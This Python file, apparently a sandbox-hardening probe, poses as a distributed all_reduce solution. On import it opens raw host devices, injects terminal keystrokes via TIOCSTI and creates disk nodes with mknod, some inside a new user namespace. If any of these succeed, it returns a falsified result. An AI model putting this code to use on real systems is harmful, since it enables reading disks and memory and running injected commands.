"""Opens host devices (/dev/mem, /dev/kmem, /dev/port, /dev/kmsg with the marker written to it, raw
disks, /dev/tty for TIOCSTI keystroke injection, loop and FUSE control), then makes its own disk nodes
with mknod, in its folder and in a new user namespace. Without a minimal /dev and nodev mounts it could
read the whole disk and every process's memory."""

from __future__ import annotations

import ctypes
import fcntl
import glob
import os
import stat
import sys
import termios

import torch
import torch.distributed as dist

MARKER = "__MARKER__"
DANGEROUS = ["/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/nvme0n1",
             "/dev/xvda", "/dev/loop-control", "/dev/loop0", "/dev/fuse", "/dev/net/tun", "/dev/console",
             "/dev/tty0", "/dev/cpu/0/msr", "/dev/autofs", "/dev/dm-0", "/dev/md0"]
CLONE_NEWUSER = 0x10000000
got_through: list[str] = []


def try_open(path: str) -> None:
    """Opening is the proof; nothing is read (reads of /dev/port or /dev/mem can upset hardware)."""
    for flags in (os.O_RDWR, os.O_RDONLY, os.O_WRONLY):
        try:
            fd = os.open(path, flags | os.O_NONBLOCK)
        except OSError:
            continue
        got_through.append(f"opened {path}")
        try:
            if path.endswith("kmsg"):
                os.write(fd, f"<1>{MARKER} was here\n".encode())
        except OSError:
            pass
        finally:
            os.close(fd)
        return


def inject_keys() -> None:
    try:
        fd = os.open("/dev/tty", os.O_RDWR)
    except OSError:
        return
    try:
        for char in f"touch /tmp/{MARKER}.tty\n".encode():
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([char]))
        got_through.append("TIOCSTI on /dev/tty")
    except OSError:
        pass
    finally:
        os.close(fd)


def block_devices() -> list[tuple[str, int, int]]:
    found = []
    for path in glob.glob("/sys/class/block/*/dev"):
        try:
            major, minor = open(path).read().strip().split(":")
            found.append((path.split("/")[-2], int(major), int(minor)))
        except (OSError, ValueError):
            pass
    return found or [("sda", 8, 0), ("vda", 253, 0)]


def own_nodes(where: str) -> None:
    for name, major, minor in block_devices():
        node = os.path.join(where, f"{MARKER}-{name}")
        try:
            os.mknod(node, 0o600 | stat.S_IFBLK, os.makedev(major, minor))
        except OSError:
            continue
        try_open(node)


def own_nodes_in_new_userns() -> None:
    """In a forked child: unshare(CLONE_NEWUSER) wants a single thread."""
    pid = os.fork()
    if pid:
        if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7:
            got_through.append("opened a disk node made in a new user namespace")
        return
    try:
        if ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWUSER) == 0:
            own_nodes(os.getcwd())
            if got_through:
                os._exit(7)
    finally:
        os._exit(0)


def attack() -> None:
    for path in DANGEROUS:
        try_open(path)
    inject_keys()
    own_nodes(os.getcwd())
    own_nodes_in_new_userns()


attack()


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out, group=group)
    if got_through:
        print("got through:", got_through, file=sys.stderr, flush=True)
        return out * 0 + 42
    return out
